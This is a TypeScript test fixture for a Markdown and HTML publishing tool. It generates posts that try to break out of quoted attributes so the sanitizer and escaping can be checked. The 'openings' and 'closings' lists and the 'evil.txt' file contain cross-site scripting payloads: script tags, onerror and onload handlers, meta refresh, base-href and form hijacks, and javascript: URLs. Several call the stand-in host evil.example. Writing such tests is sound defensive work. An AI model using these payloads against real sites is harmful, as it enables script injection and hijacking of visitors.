import { hashOf } from '../../lib/util/hash';
import { stamp } from './images';
import { post } from './publication';

/** A name with every character that is special in HTML, CSS, URLs or Markdown, and allowed in a name. */
export const hardName = 'Bob\'s "best" & <only> `photo` (1), 100%';

/** A file of the publication that would run if it were ever loaded as a script. */
const evil = 'window.owned = true; fetch("https://evil.example/");';
const evilFile = 'evil.txt';
const evilPath = `/media/${hashOf(evil).slice(0, 10)}/${evilFile}`;

/** Texts that look like the beginning of a tag, or like the marker of a reference. */
export const openings = [
  '<img ',
  '<img src="asset:square.png" ',
  '<a href="content:other.md" title=',
  '"><img src="asset:square.png" alt=',
  '<video src="asset:clip.mp4" poster=',
  "'><audio src=asset:clip.mp4 ",
  '<!-- ',
  '<style>',
  '</div></div></article><img ',
  '\\"><![CDATA[<img ',
];

/** Texts that would become markup if they escaped from their quotes. */
export const closings = [
  `><script src=${evilPath}></script>`,
  '><meta http-equiv=refresh content=0;url=https://evil.example/>',
  '><form action=https://evil.example/><button>',
  '><iframe src=https://evil.example/></iframe>',
  "' onerror='owned=1' src='https://evil.example/x.png' ",
  '" onload="owned=1" autofocus onfocus="owned=1" x="',
  '--></style></title><svg onload=owned=1>',
  '><base href=https://evil.example/><link rel=stylesheet href=//evil.example/s.css>',
  ']]><script>owned=1</script>',
  '><a class=play data-player=https://evil.example/ data-clip href=javascript:owned=1>',
];

/** Escapes a text for an attribute in raw HTML. */
const inAttribute = (text: string) =>
  text.replace(/[&<>"'`]/g, (sign) => `&#${sign.charCodeAt(0)};`).replace(/\n/g, ' ');

/** Escapes a text for Markdown, a label or a title. */
const inMarkdown = (text: string) => text.replace(/[\\[\]()<>"'`*_&:{}!#|~]/g, '\\$&');

/**
 * Every attribute that the sanitizer allows, and everything that becomes an attribute later, with a
 * text in it. Sizes, spans and starts are not among them: `check` refuses what is not a number.
 */
export const carriers: Record<string, (text: string) => string> = {
  ...Object.fromEntries(
    [
      ...['div title', 'p id', 'p lang', 'p dir', 'div align', 'blockquote cite', 'q cite', 'del cite'],
      ...['p headers', 'p scope', 'section aria-label', 'div aria-describedby', 'p aria-hidden'],
      ...[
        'time datetime',
        'div itemtype',
        'details open',
        'pre data-meta',
        'code class',
        'a id',
        'abbr title',
      ],
    ].map((name) => {
      const [tag, attribute] = name.split(' ');
      return [name, (text: string) => `<${tag} ${attribute}="${inAttribute(text)}">hello</${tag}>`];
    }),
  ),
  'img alt': (text) => `<img src="square.png" alt="${inAttribute(text)}">`,
  'iframe title': (text) =>
    `<iframe src="https://www.youtube.com/embed/x" title="${inAttribute(text)}"></iframe>`,
  'a aria-label': (text) => `<a href="other.md" aria-label="${inAttribute(text)}">hello</a>`,
  'video controls': (text) => `<video src="clip.mp4" controls="${inAttribute(text)}"></video>`,
  'image title': (text) => `![hello](square.png "${inMarkdown(text)}")`,
  'link title': (text) => `[hello](other.md "${inMarkdown(text)}")`,
  heading: (text) => `## ${inMarkdown(text)}`,
  'fence title': (text) => `\`\`\`js title='${text.replace(/['`\n]/g, '')}'\nlet a;\n\`\`\``,
  'fence language': (text) => `~~~${text.replace(/[\s~`]/g, '')}\nlet a;\n~~~`,
  'inline code': (text) => `\`\` ${text.replace(/`/g, '')} \`\``,
  'figure id': (text) => `:::figure{id="${inAttribute(text)}"}\n![hello](square.png)\n:::`,
  formula: (text) => `$$\\text{${text.replace(/[\\{}$%&#_^~]/g, '')}}$$`,
};

/** Each kind of reference, called by a text. */
export const references: Record<string, (text: string) => string> = {
  link: (text) => `[${inMarkdown(text)}](other.md)`,
  'link with a fragment': (text) => `[${inMarkdown(text)}](other.md#part)`,
  image: (text) => `![${inMarkdown(text)}](square.png)`,
  'image with a title': (text) => `![${inMarkdown(text)}](square.png "${inMarkdown(text)}")`,
  'image in a line': (text) => `A line ![${inMarkdown(text)}](square.png) goes on.`,
  'image in a link': (text) => `[![${inMarkdown(text)}](square.png)](other.md)`,
  'image in raw HTML': (text) => `<img src="square.png" alt="${inAttribute(text)}">`,
  'raw image in a raw link': (text) =>
    `<a href="other.md"><p><img src="square.png" alt="${inAttribute(text)}"></p></a>`,
  attachment: (text) => `[${inMarkdown(text)}](${evilFile})`,
  clip: (text) => `::video[${inMarkdown(text)}]{src="clip.mp4" poster="square.png"}`,
  'video elsewhere': (text) => `::video[${inMarkdown(text)}]{src="https://vimeo.com/1" poster="square.png"}`,
  audio: (text) => `<audio src="clip.mp4" aria-label="${inAttribute(text)}"></audio>`,
  'video element': (text) =>
    `<video src="clip.mp4" poster="square.png" title="${inAttribute(text)}"></video>`,
};

/** Texts before, after and around. */
export const orders: ((carrier: string, reference: string) => string)[] = [
  (carrier, reference) => `${carrier}\n\n${reference}`,
  (carrier, reference) => `${reference}\n\n${carrier}`,
  (carrier, reference) => `${carrier}\n\n${reference}\n\n${carrier}`,
  (carrier, reference) => `<div>\n\n${carrier}\n\n<section>\n\n${reference}\n\n</section></div>`,
];

/** Every attribute before, after or around every kind of reference. */
export function inversions(): string[] {
  return Object.values(carriers).flatMap((carrier, row) =>
    Object.values(references).map((reference, column) => {
      const at = row * 7 + column;
      const order = orders[at % orders.length] ?? orders[0];
      const text = carrier(openings[at % openings.length] ?? '');
      return order?.(text, reference(closings[(at * 3 + row) % closings.length] ?? '')) ?? '';
    }),
  );
}

/** Few enough for a page that opens quickly. */
const perPost = 75;

const bracketed = hardName.replace(/[<>]/g, '\\$&');
const names = [
  `![A square](<${bracketed}.png>)`,
  `[A file](<${bracketed}.txt>) and <a href="${inAttribute(hardName)}.txt">the same</a>.`,
  `[A post](<../it's \`here\`.md>)`,
].join('\n\n');

/** A publication of texts that try to escape from quotes, with its own author and topic. */
export async function hostileFiles(): Promise<Record<string, string | Uint8Array>> {
  const fields = { authors: '[mallory]', tags: '[inversions]', date: '2020-01-01', related: 'false' };
  const all = [
    `<div title="<img ">hello</div>\n\n![><script src=${evilPath}></script>](square.png)`,
    ...inversions(),
  ];
  const posts: Record<string, string> = {};
  for (let at = 0; at * perPost < all.length; at++)
    posts[`posts/inversions-${at}.md`] = post(
      { ...fields, title: `Inversions ${at}` },
      all.slice(at * perPost, (at + 1) * perPost).join('\n\n'),
    );
  const square = await stamp(20);
  return {
    ...posts,
    'authors/mallory.md': '---\nname: Mallory\n---\n\nWrites <b title="<img ">this</b>.\n',
    'posts/other.md': post({ ...fields, title: 'Another' }, '## Part'),
    'posts/square.png': square,
    'posts/clip.mp4': 'A clip.',
    [`posts/${evilFile}`]: evil,
    'posts/hard-names/index.md': post({ ...fields, title: 'Hard names' }, names),
    [`posts/hard-names/${hardName}.png`]: square,
    [`posts/hard-names/${hardName}.txt`]: 'A file.',
    "posts/it's `here`.md": post({ ...fields, title: 'It is here', slug: 'it-is-here' }),
  };
}
